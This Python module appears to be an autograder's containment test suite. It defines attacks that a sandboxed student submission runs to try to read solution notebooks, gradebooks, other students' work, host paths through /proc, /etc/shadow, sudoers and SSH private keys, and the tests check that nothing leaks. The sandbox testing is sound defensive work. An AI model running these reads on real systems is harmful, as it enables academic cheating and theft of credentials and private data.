"""Class 2, reading what a submission must not: answers, hidden tests, grades, other students.

Each attack prints whatever it manages to read after the leak marker, decoded for a person
(a notebook's cell sources, a database's rows), so that a success shows up in the student's
feedback, the autograded notebook and the log, where the test looks for the marker and for
the assignment's secret lines.
"""

from __future__ import annotations

from autograder.attacks.core import Targets, attack


@attack(2)
def read_solutions(t: Targets) -> str:
    """Read the instructor's solution notebooks and the known-wrong solutions.

    Opens ``solutions/<assignment>/<assignment>.ipynb`` by its real path, every notebook under
    ``solutions/``, ``autograder/wrong_solutions/``, and the copies nbgrader keeps of the
    source in the run's ``OUT/.gradebook/`` and the course folder. Contained: no leak marker
    and no pair of consecutive solution or hidden-test lines in anything the run wrote.
    """
    return t.fill(
        """
        targets = [${solution_notebook}, ${solutions}]
        targets += _atk_expand(${solutions} + "/**/*.ipynb", ${wrong_solutions} + "/*.py")
        targets += _atk_expand(${out} + "/.gradebook/**/*.ipynb", ${grading_dir} + "/**/*.ipynb")
        read = [p for p in targets if _atk_read(p)]
        return f"read {len(read)} of {len(targets)}: {read}"
        """
    )


@attack(2)
def read_gradebooks(t: Targets) -> str:
    """Read every gradebook: it holds the hidden tests' source and every student's grades.

    The course gradebook (``$GANCOURSE_GRADING_DIR/gradebook.db``), the default one in
    ``autograder/work/``, the run's template (``OUT/.gradebook/gradebook.db``), each worker's
    copy (``<tmp>/grade-*/gradebook.db``), the instructor's IPython history, and any
    ``gradebook.db`` a recursive search from ``/`` finds. Contained: as for ``read_solutions``.
    """
    return t.fill(
        """
        targets = [${course_gradebook}, ${default_gradebook}, ${out_gradebook}]
        targets += _atk_expand(${host_tmp} + "/grade-*/gradebook.db")
        targets.append(${home} + "/.ipython/profile_default/history.sqlite")
        # Not the Python environments: tens of thousands of files, and no gradebook.
        skip = ("/proc", "/sys", "/usr", "/dev", _atk_sys.prefix, ${venv}, ${state} + "/python")
        for folder, subfolders, files in _atk_os.walk("/"):
            subfolders[:] = [s for s in subfolders if _atk_os.path.join(folder, s) not in skip]
            targets += [_atk_os.path.join(folder, f) for f in files if f == "gradebook.db"]
        read = [p for p in targets if _atk_read(p)]
        return f"read {len(read)} of {len(targets)}: {read}"
        """
    )


@attack(2)
def read_other_students(t: Targets) -> str:
    """Read the other students' notebooks and results, wherever the pipeline keeps them.

    The submissions folder (``<submitted>/*/<assignment>/*.ipynb``), the workers' copies in
    ``<tmp>/grade-*/``, the other jails' scratch folders under the sandbox's state, the staged
    and published results in ``OUT`` and the autograded notebooks in the course folder.
    Contained: no leak marker in anything the run wrote.
    """
    return t.fill(
        """
        targets = [${submissions}, ${out}, ${incoming}, ${grading_dir}, ${state} + "/jails"]
        targets += _atk_expand(
            ${submissions} + "/*/*/*.ipynb",
            ${host_tmp} + "/grade-*/submitted/*/*/*.ipynb",
            ${host_tmp} + "/grade-*/autograded/*/*/*.ipynb",
            ${state} + "/jails/*/scratch/*.ipynb",
            ${state} + "/jails/*/jail.json",
            ${incoming} + "/*/*/log.txt",
            ${out} + "/feedback/*/*/*.html",
            ${grading_dir} + "/autograded/*/*/*.ipynb",
        )
        read = [p for p in targets if _atk_read(p)]
        return f"read {len(read)} of {len(targets)}: {read}"
        """
    )


@attack(2)
def read_via_proc(t: Targets) -> str:
    """Find the host's paths in ``/proc`` (cmdline, environ, cwd, fds) and read what they hold.

    Walks ``/proc/*/cmdline`` and ``/proc/*/environ`` for absolute paths, follows
    ``/proc/*/cwd``, ``root``, ``exe`` and ``fd/*``, reads every notebook and database at or
    under those paths (two levels down) that is not the kernel's own, and tries the solution
    and the course gradebook through ``/proc/<pid>/root/``. Contained: no leak marker.
    """
    return t.fill(
        """
        import re

        own = ("/home/student", "/tmp/home", "/proc", "/sys", "/dev", "/usr")
        paths = set()
        pids = [p for p in _atk_os.listdir("/proc") if p.isdigit()]
        for pid in pids:
            for name in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as handle:
                        raw = handle.read()
                except OSError:
                    continue
                for piece in re.split(rb"[\\0=:\\s]", raw):
                    if piece.startswith(b"/"):
                        paths.add(piece.decode("utf-8", "replace"))
            links = ["cwd", "root", "exe"]
            try:
                links += ["fd/" + fd for fd in _atk_os.listdir(f"/proc/{pid}/fd")]
            except OSError:
                pass
            for link in links:
                try:
                    paths.add(_atk_os.readlink(f"/proc/{pid}/{link}"))
                except OSError:
                    pass
        candidates = set()
        for path in paths:
            for pattern in ("", "/*", "/*/*"):
                for found in _atk_expand(path + pattern) if pattern else [path]:
                    if found.endswith((".ipynb", ".db", ".sqlite")) and not found.startswith(own):
                        candidates.add(found)
        for pid in pids:
            for secret in (${solution_notebook}, ${course_gradebook}, ${out_gradebook}):
                candidates.add(f"/proc/{pid}/root{secret}")
        read = [p for p in sorted(candidates) if _atk_read(p)]
        return f"{len(pids)} pids, {len(paths)} paths seen; read {len(read)} of {len(candidates)}: {read}"
        """
    )


@attack(2)
def read_root_files(t: Targets) -> str:
    """Read the machine's secrets: ``/root``, ``/etc/shadow``, SSH keys, sudoers, other jails.

    Lists ``/root`` and the instructor's home, reads ``/etc/shadow``, ``/etc/gshadow``,
    ``/etc/sudoers``, the instructor's shell history, SSH keys, the host's SSH host keys and
    the other jails' descriptions. Contained: no leak marker.
    """
    return t.fill(
        """
        targets = ["/root", ${home}, "/etc/shadow", "/etc/gshadow", "/etc/sudoers"]
        targets += [${home} + "/.bash_history", ${home} + "/.ssh", ${home} + "/.ssh/id_rsa"]
        targets += [${home} + "/.ssh/id_ed25519", ${home} + "/.gitconfig"]
        targets += _atk_expand("/etc/ssh/ssh_host_*_key", ${state} + "/jails/*/jail.json")
        read = [p for p in targets if _atk_read(p)]
        return f"read {len(read)} of {len(targets)}: {read}"
        """
    )
